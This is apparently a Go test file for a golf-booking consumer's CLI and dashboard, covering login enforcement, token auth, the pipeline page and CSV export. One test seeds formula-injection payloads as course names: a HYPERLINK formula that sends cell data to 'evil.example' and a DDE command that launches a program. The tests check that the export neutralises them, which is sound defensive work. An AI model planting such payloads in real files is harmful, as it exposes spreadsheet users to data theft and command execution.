package main

import (
	"context"
	"encoding/csv"
	"errors"
	"io"
	"net/http"
	"slices"
	"strings"
	"testing"
	"time"

	"github.com/golfcrawler/golf-crawler/cmd/booking-consumer/internal/dashboard"
	"github.com/golfcrawler/golf-crawler/cmd/internal/cli"
	"github.com/golfcrawler/golf-crawler/events"
	"github.com/golfcrawler/golf-crawler/events/kafkabus/kafkatest"
	"github.com/golfcrawler/golf-crawler/internal/testkit"
	"github.com/golfcrawler/golf-crawler/store"
	"github.com/golfcrawler/golf-crawler/store/storetest"
)

func TestServeHelp(t *testing.T) {
	_, help, err := runCLI(t, t.Context(), nil, "serve", "--help")
	if err != nil {
		t.Fatal(err)
	}
	for _, w := range []string{"-http-addr", "-tz", "-as-of", "-days", "-query-timeout", "-bootstrap", "-topic", "-group",
		"-database-url", "HTTP_ADDR", "DASHBOARD_TOKEN", "DASHBOARD_USER", "DASHBOARD_PASSWORD", "127.0.0.1:8080"} {
		if !strings.Contains(help, w) {
			t.Errorf("serve --help does not mention %s", w)
		}
	}
	if _, help, _ := runCLI(t, t.Context(), nil, "run", "--help"); !strings.Contains(help, "-http-addr") {
		t.Error("run --help does not mention --http-addr")
	}
}

// Bound to anything but loopback, the dashboard needs a login and refuses to start without one,
// before it touches the database or Kafka.
func TestServeRefusesAnOpenDoor(t *testing.T) {
	env := map[string]string{"DATABASE_URL": "postgres://nobody@127.0.0.1:1/none", "KAFKA_BOOTSTRAP": "127.0.0.1:1"}
	for _, args := range [][]string{
		{"serve", "--http-addr", "0.0.0.0:8080"},
		{"serve", "--http-addr", ":8080"},
		{"run", "--http-addr", "0.0.0.0:8080"},
	} {
		_, _, err := runCLI(t, t.Context(), env, args...)
		if !errors.Is(err, cli.ErrUsage) || !errors.Is(err, dashboard.ErrNoLogin) {
			t.Errorf("%v without a login: %v, want a usage error saying a login is needed", args, err)
		}
	}
	withHTTPAddr := map[string]string{"DATABASE_URL": env["DATABASE_URL"], "HTTP_ADDR": "0.0.0.0:8080"}
	if _, _, err := runCLI(t, t.Context(), withHTTPAddr, "serve"); !errors.Is(err, dashboard.ErrNoLogin) {
		t.Errorf("HTTP_ADDR=0.0.0.0:8080 without a login: %v", err)
	}
}

// Half a login (a user without a password, or the reverse) is a mistake, not "no login": serve
// and run refuse to start on any address, loopback too, before they touch the database (half a login read as none left
// the dashboard open).
func TestServeRefusesAHalfConfiguredLogin(t *testing.T) {
	for _, tc := range []struct {
		env  map[string]string
		want string
	}{
		{map[string]string{"DASHBOARD_USER": "admin", "DASHBOARD_PASSWORD": ""}, "DASHBOARD_USER is set but DASHBOARD_PASSWORD is empty"},
		{map[string]string{"DASHBOARD_PASSWORD": "pa55"}, "DASHBOARD_PASSWORD is set but DASHBOARD_USER is empty"},
		{map[string]string{"DASHBOARD_TOKEN": "tok", "DASHBOARD_USER": "admin"}, "DASHBOARD_USER is set but DASHBOARD_PASSWORD is empty"},
	} {
		tc.env["DATABASE_URL"], tc.env["KAFKA_BOOTSTRAP"] = "postgres://nobody@127.0.0.1:1/none", "127.0.0.1:1"
		for _, args := range [][]string{
			{"serve", "--http-addr", "127.0.0.1:0"},
			{"serve", "--http-addr", "0.0.0.0:0"},
			{"run", "--http-addr", "127.0.0.1:0"},
		} {
			// Bounded: without the check, run would wait for the unreachable database for ever.
			ctx, cancel := context.WithTimeout(t.Context(), 15*time.Second)
			_, _, err := runCLI(t, ctx, tc.env, args...)
			cancel()
			if !errors.Is(err, cli.ErrUsage) || err == nil || !strings.Contains(err.Error(), tc.want) {
				t.Errorf("%v with %v: %v; want a usage error saying %q", args, tc.env, err, tc.want)
			}
			if err != nil && strings.Contains(err.Error(), "pa55") {
				t.Errorf("%v: the password is in the error: %v", args, err)
			}
		}
	}
}

func TestServeWithATokenOnAllInterfaces(t *testing.T) {
	_, dbURL := storetest.NewDBURL(t)
	base := startServe(t, map[string]string{"DATABASE_URL": dbURL, "DASHBOARD_TOKEN": "tok-123"}, "--http-addr", "0.0.0.0:0")
	base = strings.Replace(base, "0.0.0.0", "127.0.0.1", 1)
	for _, tc := range []struct {
		auth string
		want int
	}{{"", 401}, {"Bearer tok-12", 401}, {"Bearer tok-123", 200}} {
		req, _ := http.NewRequest(http.MethodGet, base+"/", nil)
		if tc.auth != "" {
			req.Header.Set("Authorization", tc.auth)
		}
		resp, err := http.DefaultClient.Do(req)
		if err != nil {
			t.Fatal(err)
		}
		resp.Body.Close()
		if resp.StatusCode != tc.want {
			t.Errorf("GET / with %q: %d, want %d", tc.auth, resp.StatusCode, tc.want)
		}
	}
	resp, err := http.Post(base+"/listings", "text/plain", strings.NewReader("x"))
	if err != nil {
		t.Fatal(err)
	}
	resp.Body.Close()
	if resp.StatusCode != http.StatusMethodNotAllowed {
		t.Errorf("POST: %d, want 405", resp.StatusCode)
	}
}

// `run --http-addr` serves the dashboard from the consumer: its pipeline page shows the lag per
// partition from Kafka and the consumer's own metrics.
func TestRunServesTheDashboardWithLagAndMetrics(t *testing.T) {
	addr := kafkatest.Bootstrap(t)
	topic := kafkatest.Topic(t, addr, 3)
	_, dbURL := storetest.NewDBURL(t)
	httpAddr := testkit.FreeAddr(t)
	ctx, cancel := context.WithCancel(t.Context())
	done := make(chan error, 1)
	errs := &testkit.SyncBuffer{}
	go func() {
		done <- run(ctx, []string{"run", "--http-addr", httpAddr, "--metrics-addr=", "--topic", topic, "--group", "g-" + topic},
			envMap(map[string]string{"DATABASE_URL": dbURL, "KAFKA_BOOTSTRAP": addr, "LOG_FORMAT": "text"}), io.Discard, errs)
	}()
	defer func() {
		cancel()
		if err := <-done; err != nil {
			t.Errorf("run: %v\n%s", err, errs.String())
		}
	}()
	var body string
	for range 300 {
		resp, err := http.Get("http://" + httpAddr + "/pipeline")
		if err == nil {
			b, _ := io.ReadAll(resp.Body)
			resp.Body.Close()
			body = string(b)
			if resp.StatusCode == 200 && strings.Contains(body, `id="lag-table"`) && strings.Contains(body, "consumer_") {
				return
			}
		}
		time.Sleep(100 * time.Millisecond)
	}
	t.Fatalf("the pipeline page never showed the lag table and the consumer's metrics:\n%s\nlogs:\n%s", body, errs.String())
}

// formulaCourses are course names a crawled page could carry: a
// spreadsheet opening the CSV would run them as formulas.
var formulaCourses = []string{`=HYPERLINK("http://evil.example/?x="&A1,"click")`, `+cmd|' /C calc'!A0`, `-2+3 CC`, `=1+1 CC`, `@SUM(1+1)`}

// The dashboard's CSV is `lifetimes --csv` byte for byte, and neither has a cell that starts a
// formula: the hostile course names come out with a leading quote.
func TestServeCSVEqualsLifetimesCSVWithFormulasNeutralised(t *testing.T) {
	pool, dbURL := storetest.NewDBURL(t)
	at := time.Date(2026, 4, 18, 9, 0, 0, 0, time.UTC)
	var evs []events.Event
	for i, c := range formulaCourses {
		price, players := int64(90000+i), 4
		l := events.Listing{Source: "golfsite", CourseName: c, RoundDate: "2026-04-19", PlayDate: "2026-04-19",
			TeeTime: "07:00", Values: events.Values{PriceKRW: &price, Players: &players}}
		evs = append(evs, events.Opened(l, "c1", at))
	}
	msgs := make([]store.Message, len(evs))
	for i := range evs {
		msgs[i] = store.Message{Topic: "seed", Offset: int64(i), Event: &evs[i]}
	}
	if _, err := store.New(pool).Ingest(t.Context(), msgs); err != nil {
		t.Fatal(err)
	}
	env := map[string]string{"DATABASE_URL": dbURL}
	want, stderr, err := runCLI(t, t.Context(), env, "lifetimes", "--csv")
	if err != nil {
		t.Fatalf("lifetimes --csv: %v\n%s", err, stderr)
	}
	base := startServe(t, env)
	code, got := testkit.Get(t, base+"/listings.csv")
	if code != http.StatusOK || got != want {
		t.Fatalf("the dashboard's CSV (%d, %d bytes) differs from `lifetimes --csv` (%d bytes):\n%s\n---\n%s", code, len(got), len(want), got, want)
	}
	recs, err := csv.NewReader(strings.NewReader(got)).ReadAll()
	if err != nil || len(recs) != len(formulaCourses)+1 {
		t.Fatalf("CSV: %v, %d records", err, len(recs))
	}
	var courses []string
	for _, r := range recs[1:] {
		for i, cell := range r {
			if cell != "" && strings.ContainsRune("=+-@\t\r", rune(cell[0])) {
				t.Errorf("column %s starts a formula: %q", store.LifetimeCSVHeader[i], cell)
			}
		}
		courses = append(courses, r[3])
	}
	for _, c := range formulaCourses {
		if !slices.Contains(courses, "'"+c) {
			t.Errorf("course %q is not in the CSV as '%s; courses: %q", c, c, courses)
		}
	}
}
